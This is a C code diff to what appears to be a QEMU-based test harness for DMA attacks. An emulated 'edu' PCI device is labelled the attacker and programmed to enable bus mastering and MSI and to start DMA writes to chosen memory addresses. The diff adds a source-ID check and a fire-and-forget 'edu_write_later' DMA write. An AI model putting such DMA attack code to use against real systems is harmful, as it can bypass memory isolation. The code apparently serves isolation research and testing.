@@ -12,7 +12,6 @@
 #include <sys/mman.h>
 #include <unistd.h>
 
-#define COMMAND_ON 0x06u /* memory, bus master */
 #define COMMAND_INTX_OFF (1u << 10)
 #define MSI_ENABLE (1u << 16)
 #define MSI_WIDE (1u << 23)
@@ -25,6 +24,8 @@
 #define SETTLE_US 20000u
 #define OWN_BYTES (4 * PAGE)
 #define ATTACKER 0x80u /* 00:10.0, as the test script has it; the other one is where QEMU puts it */
+#define SOURCE 0x100u /* 01:00.0: there is one bridge */
+#define SOURCE_IDS 0x10441af4u
 #define UNIT 0xfed90000ull /* QEMU has no other place for it */
 
 uint32_t pci_read(uint32_t source_id, uint32_t offset)
@@ -56,7 +57,8 @@ bool function_claim(struct devices *d, struct function *f, uint32_t source_id)
 	if (f->claim < 0 || ioctl(f->claim, ATTACK_CLAIM, &claim) != 0)
 		return false;
 	f->line = claim.line;
-	pci_write(source_id, PCI_COMMAND, (pci_read(source_id, PCI_COMMAND) & 0xffff & ~COMMAND_INTX_OFF) | COMMAND_ON);
+	pci_write(source_id, PCI_COMMAND,
+		  (pci_read(source_id, PCI_COMMAND) & 0xffff & ~COMMAND_INTX_OFF) | PCI_COMMAND_ON);
 	for (at = pci_read(source_id, PCI_CAPABILITIES) & 0xfc; at != 0; at = pci_read(source_id, at) >> 8 & 0xfc) {
 		if ((pci_read(source_id, at) & 0xff) == PCI_CAPABILITY_MSI)
 			f->msi = at;
@@ -106,7 +108,8 @@ bool devices_find(struct devices *d, struct attack *a)
 		if (!good)
 			printf("     device %x: %s\n", id, strerror(errno));
 	}
-	return d->page && d->attacker.bar && d->other.bar && d->table.bar;
+	d->source.source_id = pci_read(SOURCE, 0) == SOURCE_IDS ? SOURCE : 0;
+	return d->page && d->source.source_id && d->attacker.bar && d->other.bar && d->table.bar;
 }
 
 static void edu_register(const struct function *edu, uint32_t offset, uint64_t value)
@@ -114,12 +117,22 @@ static void edu_register(const struct function *edu, uint32_t offset, uint64_t v
 	*(volatile uint64_t *)(edu->bar + offset) = value;
 }
 
-static bool edu_dma(const struct function *edu, uint64_t source, uint64_t target, uint32_t command)
+static void edu_dma_begin(const struct function *edu, uint64_t source, uint64_t target, uint32_t command)
 {
 	edu_register(edu, EDU_DMA_SOURCE, source);
 	edu_register(edu, EDU_DMA_TARGET, target);
 	edu_register(edu, EDU_DMA_COUNT, DMA_BYTES);
 	edu_register(edu, EDU_DMA_COMMAND, command | EDU_DMA_RUN);
+}
+
+void edu_write_later(const struct function *edu, uint64_t address)
+{
+	edu_dma_begin(edu, EDU_BUFFER, address, EDU_DMA_TO_MEMORY);
+}
+
+static bool edu_dma(const struct function *edu, uint64_t source, uint64_t target, uint32_t command)
+{
+	edu_dma_begin(edu, source, target, command);
 	for (unsigned int i = 0; i < DMA_LOOKS; i++) {
 		usleep(DMA_LOOK_US);
 		if (!(*(volatile uint32_t *)(edu->bar + EDU_DMA_COMMAND) & EDU_DMA_RUN))
